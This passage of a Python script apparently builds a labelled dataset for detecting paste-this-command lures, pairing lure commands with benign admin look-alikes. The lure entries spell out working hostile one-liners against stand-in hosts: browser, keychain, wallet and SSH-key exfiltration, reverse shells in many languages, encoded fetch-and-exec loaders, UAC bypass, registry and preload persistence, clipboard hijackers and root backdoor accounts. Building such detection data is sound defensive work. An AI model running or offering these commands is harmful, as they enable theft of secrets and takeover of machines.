        "'Login Data' && curl -s -F f=@/tmp/.c.zip https://verify-mac.ashcombe.test/u",
        "tar czf - ~/Library/Keychains/login.keychain-db ~/Library/Application\\ Support/Firefox/"
        "Profiles | curl -s -T - https://198.51.100.95/k",
        "ditto -c -k --sequesterRsrc ~/Library/Application\\ Support/BraveSoftware /tmp/b.zip && curl -F "
        "b=@/tmp/b.zip https://support-macos.example/b",
    ],
)
book.lures(
    "browser-data-theft-linux",
    "linux",
    "terminal",
    LINUX,
    [
        "tar czf /tmp/.b.tgz ~/.config/google-chrome/Default/'Login Data' ~/.config/google-chrome/"
        "Default/Cookies && curl -s -F f=@/tmp/.b.tgz https://verify.thistledown.test/u",
        "curl -s -T ~/.mozilla/firefox/*.default-release/logins.json http://203.0.113.99/l",
    ],
)

# ---- Reverse shells (GTFOBins "reverse shell" entries as one-liners a page asks for) --------
# /dev/tcp, nc -e and the mkfifo form, busybox nc, socat, openssl, perl/php/ruby/awk (Hunt.io
# APT36 Linux ClickFix and 2025 "fix your server" Telegram lures hand such lines to admins).
book.lures(
    "dev-tcp-shell",
    "linux",
    "terminal",
    LINUX,
    [
        "bash -c 'exec bash -i &>/dev/tcp/198.51.100.14/443 <&1'",
        "exec 5<>/dev/tcp/192.0.2.201/8080; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/203.0.113.15/4444; sh <&196 >&196 2>&196",
        "sh -i >& /dev/udp/198.51.100.16/53 0>&1",
        "nohup bash -c 'bash -i >& /dev/tcp/verify.thistledown.test/9001 0>&1' >/dev/null 2>&1 &",
    ],
)
book.lures(
    "nc-busybox-shell",
    "linux",
    "terminal",
    LINUX,
    [
        "busybox nc 203.0.113.21 9001 -e /bin/sh",
        "nc -e /bin/bash 198.51.100.22 4444",
        "rm -f /tmp/.f;mkfifo /tmp/.f;cat /tmp/.f|/bin/sh -i 2>&1|nc 192.0.2.23 1337 >/tmp/.f",
        "ncat --ssl 203.0.113.24 443 -e /bin/bash",
        "busybox sh -c 'busybox nc 192.0.2.25 8443 -e sh' &",
        "toybox nc 198.51.100.26 4444 -e /bin/sh",
    ],
)
book.lures(
    "socat-openssl-shell",
    "linux",
    "terminal",
    LINUX,
    [
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.31:4443",
        "socat TCP4:192.0.2.32:9999 EXEC:/bin/sh",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.33:443 > /tmp/s",
    ],
)
book.lures(
    "interpreter-reverse-shell",
    "linux",
    "terminal",
    LINUX,
    [
        'perl -e \'use Socket;$i="198.51.100.41";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('
        '"tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};\'',
        'php -r \'$s=fsockopen("192.0.2.42",9001);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.43",8080);while(m=c.gets);IO.popen(m,"r"){|io|'
        "c.print io.read};end'",
        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.45",443));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
        'awk \'BEGIN{s="/inet/tcp/0/192.0.2.46/4444";while(1){printf "$ " |& s;s |& getline c;'
        "while((c |& getline) > 0)print |& s;close(c)}}'",
    ],
)

# ---- Python and Node one-liners that run what they fetch or unpack -------------------------
# Python -c exec(zlib/base64 ...) (CrashFix Python stage, PyPI-style droppers); Node -e with
# child_process or https.get + eval (Contagious Interview / "fix your Node error" lures).
_PY_STAGE = "import urllib.request as u;exec(u.urlopen('https://198.51.100.50/s').read())"
book.lures(
    "python-exec-compressed",
    "any",
    "terminal",
    LINUX + DEV_LURE,
    [
        f"python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('{zb64(_PY_STAGE)}')))\"",
        f"python -c \"exec(__import__('zlib').decompress(__import__('base64').b64decode('{zb64(_PY_STAGE)}')))\"",
        f"python3 -c \"import base64;exec(base64.b64decode('{b64(_PY_STAGE)}'))\"",
        "python3 -c \"import codecs,zlib;exec(zlib.decompress(codecs.decode(b'"
        + zlib.compress(_PY_STAGE.encode()).hex()
        + "','hex')))\"",
        f'echo {zb64(_PY_STAGE)} | base64 -d | python3 -c "import sys,zlib;exec(zlib.decompress('
        'sys.stdin.buffer.read()))"',
    ],
)
book.lures(
    "node-fetch-eval",
    "any",
    "terminal",
    DEV_LURE + LINUX,
    [
        "node -e \"require('https').get('https://recruit.ostrava-labs.test/p.js',r=>{let d='';"
        "r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
        "node -e \"require('child_process').exec('curl -s https://192.0.2.57/i.sh | sh')\"",
        "node -e \"require('child_process').execSync('powershell -w h -c iex(irm https://192.0.2.51/n)')\"",
        "node -e \"fetch('https://203.0.113.52/a').then(r=>r.text()).then(t=>new Function(t)())\"",
        "node -e \"require('http').get('http://198.51.100.53/x',r=>{let b='';r.on('data',d=>b+=d)"
        ".on('end',()=>require('vm').runInThisContext(b))})\"",
        "node -e \"const{spawn}=require('child_process');spawn('sh',['-c','wget -qO- "
        "https://verify.thistledown.test/n|sh'],{detached:true,stdio:'ignore'}).unref()\"",
    ],
)

# ---- More Windows acts of the same chains -------------------------------------------------
# BITS job notify command (LOLBAS Bitsadmin /SetNotifyCmdLine), a service made to run a
# download (sc create, New-Service), the fodhelper / computerdefaults UAC bypass through
# ms-settings' open command (public since 2017, still in 2025 loaders), msiexec /y, Control
# Panel items and scripts read from a web folder, the clipboard and keys sent away.
book.lures(
    "bitsadmin-notify-run",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c bitsadmin /create v & bitsadmin /addfile v https://brambleton-gate.test/v.exe %TEMP%\\v.exe"
        " & bitsadmin /SetNotifyCmdLine v %TEMP%\\v.exe NULL & bitsadmin /resume v",
        "bitsadmin /transfer j /download /priority foreground https://192.0.2.66/s.exe %PUBLIC%\\s.exe"
        " && start %PUBLIC%\\s.exe",
    ],
)
book.lures(
    "service-runs-download",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'sc create WinUpdSvc binPath= "cmd /c mshta https://brambleton-gate.test/s.hta" start= auto'
        " & sc start WinUpdSvc",
        "cmd /c curl -so %PUBLIC%\\svc.exe https://198.51.100.67/svc && sc create EdgeSvc binPath= "
        "%PUBLIC%\\svc.exe start= auto && sc start EdgeSvc",
    ],
)
book.lures(
    "service-runs-download-ps",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "iwr https://quenby.invalid/u.exe -OutFile C:\\ProgramData\\u.exe; New-Service -Name UpdSvc "
        "-BinaryPathName C:\\ProgramData\\u.exe -StartupType Automatic; Start-Service UpdSvc",
    ],
)
book.lures(
    "uac-bypass-ms-settings",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "New-Item HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command -Force; New-ItemProperty "
        "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command -Name DelegateExecute -Value '' -Force;"
        " Set-ItemProperty HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command -Name '(default)' "
        "-Value 'powershell -w h -c iex(irm https://brambleton-gate.test/u)' -Force; Start-Process "
        "C:\\Windows\\System32\\fodhelper.exe",
        'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d "mshta '
        'https://192.0.2.68/e.hta" /f & reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command'
        " /v DelegateExecute /f & computerdefaults.exe",
    ],
)
book.lures(
    "signed-loaders-from-share",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"msiexec /y {DAV}\\m.dll",
        f"control.exe {DAV2}\\display.cpl",
        f"cscript //nologo //E:jscript {DAV}\\check.txt",
        f"wscript /b {DAV2}\\v.vbs  # Verification ID 5521",
    ],
)
book.lures(
    "clipboard-and-keys-sent",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "Invoke-RestMethod https://brambleton-gate.test/c -Method Post -Body (Get-Clipboard -Raw)",
        "Add-Content $env:USERPROFILE\\.ssh\\authorized_keys (irm https://192.0.2.69/k.pub)",
        "Get-ChildItem $env:USERPROFILE\\.ssh\\id_* | % { irm https://quenby.invalid/k -Method Post "
        "-InFile $_.FullName }",
    ],
)
book.lures(
    "mac-secrets-sent",
    "macos",
    "terminal",
    MAC,
    [
        "security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/.k 2>&1; curl -s -F "
        "k=@/tmp/.k https://verify-mac.ashcombe.test/k",
        "sqlite3 ~/Library/Application\\ Support/Google/Chrome/Default/Cookies 'select host_key,name,"
        "encrypted_value from cookies' | curl -s --data-binary @- https://198.51.100.72/c",
        "pbpaste | curl -s -X POST --data-binary @- https://support-macos.example/p",
    ],
)
book.lures(
    "linux-preload-persistence",
    "linux",
    "terminal",
    LINUX,
    [
        "curl -so /usr/local/lib/libsys.so https://verify.thistledown.test/l.so && echo "
        "/usr/local/lib/libsys.so | sudo tee -a /etc/ld.so.preload",
        "wget -qO /tmp/.x.so http://203.0.113.73/x && echo 'export LD_PRELOAD=/tmp/.x.so' >> ~/.bashrc",
    ],
)

# ---- Second round: spellings of the same acts found weak or worth pinning ------------------
# Task definitions and registry files read from a web folder, INF files handed to signed
# installers (advpack / setupapi / InfDefaultInstall, LOLBAS), registry log-on hooks beyond the
# Run key (Winlogon Shell, UserInitMprLogonScript, cmd AutoRun, User Shell Folders), the
# PowerShell profile, more stealer targets (VSS copy of locked cookies, wallets, Discord,
# Telegram), more reverse shells (GTFOBins lua, telnet, xterm), AppleScript and X11 clippers.
book.lures(
    "task-and-registry-from-share",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"schtasks /create /tn EdgeUpd /xml {DAV}\\t.xml /f",
        f"reg import {DAV}\\run.reg",
        f"regedit /s {DAV2}\\run.reg",
    ],
)
book.lures(
    "inf-proxies-from-share",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"rundll32 advpack.dll,LaunchINFSection {DAV}\\x.inf,DefaultInstall_SingleUser,1,",
        f"rundll32 setupapi.dll,InstallHinfSection DefaultInstall 128 {DAV2}\\x.inf",
        f"infdefaultinstall.exe {DAV}\\x.inf",
    ],
)
book.lures(
    "logon-hooks-more",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d '
        '"explorer.exe, mshta https://192.0.2.68/w.hta" /f',
        'reg add "HKCU\\Environment" /v UserInitMprLogonScript /d "mshta https://quenby.invalid/l.hta" /f',
        'reg add "HKCU\\Software\\Microsoft\\Command Processor" /v AutoRun /d "curl -s '
        'https://brambleton-gate.test/a | cmd" /f',
    ],
)
book.lures(
    "logon-hooks-more-ps",
    "windows",
    "terminal",
    CAPTCHA,
    [
        'Set-ItemProperty "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell '
        f'Folders" -Name Startup -Value {DAV}\\s',
        "Add-Content $PROFILE 'iex (irm https://quenby.invalid/p)'",
        "Register-ScheduledTask -TaskName EdgeUpd -Xml (irm https://brambleton-gate.test/t.xml) -Force",
    ],
)
book.lures(
    "ps-run-forms-more",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$ExecutionContext.InvokeCommand.InvokeScript((irm https://quenby.invalid/s))",
        "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://brambleton-gate.test/s)))",
        "[Net.Http.HttpClient]::new().GetStringAsync('https://192.0.2.74/s').Result | iex",
    ],
)
book.lures(
    "stealer-targets-more",
    "windows",
    "terminal",
    CAPTCHA,
    [
        'esentutl.exe /y /vss "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Network\\Cookies" '
        "/d %TEMP%\\c.db & curl -F f=@%TEMP%\\c.db https://192.0.2.190/c",
        'Compress-Archive "$env:APPDATA\\Exodus\\exodus.wallet" $env:TEMP\\w.zip; irm '
        "https://quenby.invalid/w -Method Post -InFile $env:TEMP\\w.zip",
        'Get-Content "$env:APPDATA\\discord\\Local Storage\\leveldb\\*.ldb" | irm '
        "https://brambleton-gate.test/d -Method Post",
        'Compress-Archive "$env:APPDATA\\Telegram Desktop\\tdata" $env:TEMP\\t.zip; curl.exe -F '
        "t=@$env:TEMP\\t.zip https://192.0.2.191/t",
    ],
)
book.lures(
    "reverse-shell-more",
    "linux",
    "terminal",
    LINUX,
    [
        "lua -e \"local s=require('socket');local t=assert(s.tcp());t:connect('198.51.100.41',4444);"
        "while true do local r=t:receive();local f=assert(io.popen(r,'r'));t:send(f:read('*a'));end\"",
        "xterm -display 198.51.100.42:1 &",
        "telnet 203.0.113.47 4444 | /bin/sh | telnet 203.0.113.47 4445",
        "nc 192.0.2.48 4444 | /bin/bash | nc 192.0.2.48 4445",
        'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.49:4444");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    ],
)
book.lures(
    "clipper-more",
    "macos",
    "terminal",
    MAC,
    [
        "osascript -e 'repeat' -e 'set c to the clipboard as text' -e 'if c starts with \"bc1\" then set "
        "the clipboard to \"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\"' -e 'delay 1' -e 'end repeat'",
    ],
)
book.lures(
    "clipper-more-linux",
    "linux",
    "terminal",
    LINUX,
    [
        "while :; do c=$(xclip -o -selection clipboard); [[ $c =~ ^0x[0-9a-fA-F]{40}$ ]] && printf "
        "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed | xclip -selection clipboard; sleep 1; done &",
    ],
)
book.lures(
    "python-fetch-start",
    "windows",
    "terminal",
    DEV_LURE,
    [
        "python -c \"import urllib.request,os;urllib.request.urlretrieve('https://192.0.2.52/x.exe',"
        "'x.exe');os.startfile('x.exe')\"",
        "py -c \"import urllib.request as u,subprocess as s;u.urlretrieve('https://quenby.invalid/i.bat',"
        "'i.bat');s.Popen('i.bat',shell=True)\"",
    ],
)

# ---- The same middlemen pasted into File Explorer's address bar (FileFix) -------------------
# mrd0x FileFix (2025-06) and its kin (Kaspersky, Acronis): the command, then spaces and a fake
# document path after `#`, pasted into Explorer's address bar from a "shared file" page.
FILEFIX = [
    "https://share.brambleton-gate.test/hr/policy",
    "https://docs-portal.example/file/0x7a",
]
_PAD = " " * 60 + "# C:\\Company\\HR\\Policies\\Leave-Policy-2026.docx"
book.lures(
    "filefix-middlemen",
    "windows",
    "explorer_bar",
    FILEFIX,
    [
        f"pcalua.exe -a {DAV}\\v\\open.exe" + _PAD,
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "mshta https://192.0.2.75/f.hta"'
        + _PAD,
        'wmic process call create "mshta https://docs-portal.example/d.hta"' + _PAD,
        'schtasks /create /tn DocSync /sc onlogon /tr "mshta https://192.0.2.76/s.hta" /f' + _PAD,
        "InstallUtil.exe /logfile= /LogToConsole=false /U \\\\203.0.113.77@SSL\\d\\i.dll" + _PAD,
        'powershell -version 2 -w h -c "iex(iwr https://share.brambleton-gate.test/p)"' + _PAD,
    ],
)

# ---- Third round: signed starters, Tcl, root back doors ---------------------------------------
# LOLBAS Zipfldr / Pcwutl / Ieadvpack / Wlrmdr / Squirrel (Update.exe); GTFOBins tclsh; the
# set-user-ID shell and the second uid-0 account that "fix your server" pastes leave behind.
book.lures(
    "signed-starters",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "rundll32 zipfldr.dll,RouteTheCall %TEMP%\\v.exe",
        "rundll32.exe pcwutl.dll,LaunchApplication %PUBLIC%\\upd.exe",
        "rundll32 advpack.dll,RegisterOCX %APPDATA%\\s.exe",
        "wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u %TEMP%\\v.exe",
        "%LOCALAPPDATA%\\Microsoft\\Teams\\current\\Squirrel.exe --download https://192.0.2.83/pkg",
        "%LOCALAPPDATA%\\Discord\\Update.exe --update=https://quenby.invalid/rel",
    ],
)
book.lures(
    "tcl-reverse-shell",
    "linux",
    "terminal",
    LINUX,
    [
        'echo \'set s [socket 198.51.100.4 4444];while 42 { puts -nonewline $s "> ";flush $s;gets $s c;'
        'set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;\' | tclsh',
    ],
)
book.lures(
    "root-backdoor",
    "linux",
    "terminal",
    LINUX,
    [
        "sudo chmod u+s /bin/bash",
        "sudo cp /bin/bash /tmp/.sysd && sudo chmod +s /tmp/.sysd",
        "sudo useradd -m -o -u 0 -s /bin/bash helpdesk && echo 'helpdesk:Welcome2026!' | sudo chpasswd",
        "echo 'sysupd::0:0::/root:/bin/bash' | sudo tee -a /etc/passwd >/dev/null",
        "sudo chmod 4755 /bin/sh",
    ],
)
book.lures(
    "root-backdoor-mac",
    "macos",
    "terminal",
    MAC,
    [
        "sudo dscl . -create /Users/support UniqueID 0",
        "sudo cp /bin/zsh /Users/Shared/.z && sudo chmod u+s /Users/Shared/.z",
    ],
)

# ---- Look-alikes: what admins and developers really run ------------------------------------
book.benign(
    "windows-admin-proxies",
    "windows",
    "terminal",
    MSDOCS,
    [
        'forfiles /p "D:\\Logs" /s /m *.log /d -30 /c "cmd /c del @path"',
        'schtasks /create /tn "Nightly backup" /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:00',
        "schtasks /query /fo LIST /v",
        "wmic process get name,processid,commandline",
        "wmic os get caption,version /format:list",
        "msbuild MyApp.sln /p:Configuration=Release /m",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe C:\\Services\\Ingest\\IngestService.exe",
        "regasm /codebase /tlb C:\\Addins\\ExcelTools.dll",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /u "
        "C:\\Services\\Ingest\\IngestService.exe",
        "regsvcs /u C:\\COM\\Contoso.Billing.dll",
        "expand -F:* C:\\Temp\\driver.cab C:\\Temp\\driver",
        "esentutl /g C:\\Data\\store.edb",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Greenshot /d "
        '"C:\\Program Files\\Greenshot\\Greenshot.exe" /f',
        "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        'odbcconf /a {CONFIGSYSDSN "SQL Server" "DSN=Sales|SERVER=sql01"}',
        "msdt.exe /id NetworkDiagnosticsWeb",
    ],
)
book.benign(
    "powershell-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "Add-Type -AssemblyName System.Windows.Forms",
        "Add-Type -TypeDefinition 'public class Greeter { public static string Hi(string n) { return \"Hi \" + n; } }'",
        '[System.Reflection.Assembly]::LoadWithPartialName("System.Web")',
        "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Teams "
        '-Value "C:\\Program Files\\Teams\\Teams.exe --background"',
        "Register-ScheduledTask -TaskName Cleanup -Action (New-ScheduledTaskAction -Execute powershell.exe "
        "-Argument '-File C:\\Scripts\\cleanup.ps1') -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)",
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='notepad.exe'}",
        "Get-Clipboard | Set-Content -Path .\\notes.txt",
        "Get-Content .\\servers.txt | ForEach-Object { Test-Connection $_ -Count 1 }",
        "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Bookmarks" D:\\Backup\\',
        "Test-NetConnection -ComputerName sql01.corp.example -Port 1433",
        "$PSVersionTable.PSVersion",
    ],
)
book.benign(
    "mac-admin",
    "macos",
    "terminal",
    APPLE,
    [
        "launchctl load -w ~/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist",
        "brew services start redis",
        "launchctl list | grep -i adobe",
        "defaults write com.apple.finder AppleShowAllFiles -bool true; killall Finder",
        "defaults write com.apple.dock autohide -bool true && killall Dock",
        'osascript -e \'display notification "Build finished" with title "CI"\'',
        "osascript -e 'tell application \"System Events\" to get the name of every login item'",
        "pbpaste | jq .",
        "pbpaste | wc -l",
        "ditto -c -k --keepParent ~/Projects/site site.zip",
        "echo 'eval \"$(/opt/homebrew/bin/brew shellenv)\"' >> ~/.zprofile",
    ],
)
book.benign(
    "linux-admin",
    "linux",
    "terminal",
    ARCH,
    [
        "systemctl --user enable --now syncthing.service",
        "mkdir -p ~/.config/systemd/user && cp ~/dotfiles/backup.service ~/.config/systemd/user/",
        "systemd-run --user --on-calendar=daily restic backup ~/Documents",
        '(crontab -l 2>/dev/null; echo "0 3 * * * $HOME/bin/backup.sh") | crontab -',
        "echo 'export PROMPT_COMMAND=\"history -a; history -n\"' >> ~/.bashrc",
        "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
        "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.profile",
        "nc -zv 192.0.2.10 443",
        "nc -l 8080",
        "busybox --list | head",
        "bash -c 'echo > /dev/tcp/db.corp.example/5432' && echo open",
        "cat ~/.ssh/id_ed25519.pub | ssh admin@build01.corp.example 'cat >> ~/.ssh/authorized_keys'",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@192.0.2.60",
        "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null",
        "tar czf ~/backup/chrome-profile.tgz ~/.config/google-chrome/Default/Bookmarks",
    ],
)
book.benign(
    "windows-admin-more",
    "windows",
    "terminal",
    MSDOCS,
    [
        "msdt.exe /id AudioPlaybackDiagnostic",
        "explorer shell:startup",
        'Copy-Item "$env:USERPROFILE\\Desktop\\Notes.lnk" "$env:APPDATA\\Microsoft\\Windows\\Start Menu'
        '\\Programs\\Startup\\"',
        "New-ItemProperty -Path HKLM:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
        " -Name EnableScriptBlockLogging -Value 1 -Force",
        "Get-WinEvent -LogName Microsoft-Windows-PowerShell/Operational -MaxEvents 20",
        "Get-Clipboard | ForEach-Object { $_.Trim() } | Set-Clipboard",
        "sc query WinDefend",
        'sc create Ingest binPath= "C:\\Program Files\\Ingest\\ingest.exe" start= auto',
        "bitsadmin /list /allusers /verbose",
        "Get-Service | Where-Object Status -eq Running",
    ],
)
book.benign(
    "nix-admin-more",
    "any",
    "terminal",
    APPLE,
    [
        'osascript -e \'tell application "System Events" to make login item at end with properties '
        '{path:"/Applications/Rectangle.app", hidden:false}\'',
        "systemd-run --user --scope -p MemoryMax=2G firefox",
        "pbpaste | tr -d '\\n' | pbcopy",
        "xclip -o -selection clipboard | sed 's/^ *//' | xclip -selection clipboard",
        "echo | openssl s_client -connect example.com:443 2>/dev/null | openssl x509 -noout -dates",
        "openssl s_client -connect mail.example.com:993 -quiet",
        "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
        "timeout 2 bash -c '</dev/tcp/192.0.2.10/22' && echo ssh open || echo closed",
        "node -e \"const vm=require('vm');console.log(vm.runInNewContext('1+1'))\"",
        "security find-identity -v -p codesigning",
        "sqlite3 ~/Library/Messages/chat.db '.tables'",
    ],
)
book.benign(
    "clipboard-and-downloads-dev",
    "any",
    "terminal",
    NODEDOCS,
    [
        "osascript -e 'set the clipboard to \"Hello\"'",
        "python -c \"import urllib.request;urllib.request.urlretrieve('https://www.python.org/ftp/python/"
        "3.12.1/python-3.12.1-amd64.exe','py.exe')\"",
        "lua -e \"print(require('socket')._VERSION)\"",
        "xterm -display :0 &",
        "Get-Content $PROFILE",
    ],
)
book.benign(
    "admin-more-third",
    "any",
    "terminal",
    WIKI,
    [
        "powershell.exe -Version 2.0 -NoProfile -File .\\legacy.ps1",
        'schtasks /create /tn "Chrome update" /tr "\\"C:\\Program Files\\Google\\Update\\GoogleUpdate.exe\\" '
        '/ua" /sc hourly',
        "launchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/com.example.backup.plist",
        "msbuild build.proj /t:Pack /p:Version=1.2.3",
        "Set-Clipboard -Value (Get-Content .\\address.txt)",
        "python3 -c \"import socket; s=socket.create_connection(('db.corp.example',5432),3); print('open')\"",
        "nc -vz db.corp.example 5432",
        "Get-Content .\\deploy.ps1 -Raw | Invoke-Expression",
        "wmic process where \"name='notepad.exe'\" call terminate",
    ],
)
book.benign(
    "setuid-and-accounts-admin",
    "any",
    "terminal",
    ARCH,
    [
        "sudo chmod u+s /usr/bin/ping",
        "chmod 755 /usr/local/bin/tool",
        "sudo useradd -m -s /bin/bash deploy",
        "grep ':0:' /etc/passwd",
        "%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe --processStart Teams.exe",
        "rundll32 printui.dll,PrintUIEntry /il",
    ],
)
book.benign(
    "security-prose",
    "windows",
    "other",
    "https://blog.securityresearch.example/2025/amsi-bypasses",
    [
        "Attackers commonly set the private amsiInitFailed field of AmsiUtils to true through reflection, "
        "which makes PowerShell skip AMSI scanning for the rest of the session; Defender now flags this.",
        "A clipper malware watches the clipboard for strings that look like wallet addresses and swaps "
        "them; always compare the first and last characters of an address before you send.",
    ],
)
book.benign(
    "python-node-dev",
    "any",
    "terminal",
    NODEDOCS,
    [
        "python3 -c \"import zlib; print(zlib.crc32(b'hello'))\"",
        'python3 -c "import base64,sys; print(base64.b64decode(sys.argv[1]).decode())" aGVsbG8=',
        'python -c "import json,sys; print(json.dumps(json.load(sys.stdin), indent=2))" < data.json',
        "node -e \"require('child_process').execSync('git rev-parse HEAD',{stdio:'inherit'})\"",
        "node -e \"require('https').get('https://registry.npmjs.org/',r=>console.log(r.statusCode))\"",
        "node -e \"console.log(require('os').cpus().length)\"",
        "node -e \"fetch('https://api.github.com/zen').then(r=>r.text()).then(console.log)\"",
    ],
)

CASES = book.cases

if __name__ == "__main__":
    write(OUT, CASES)
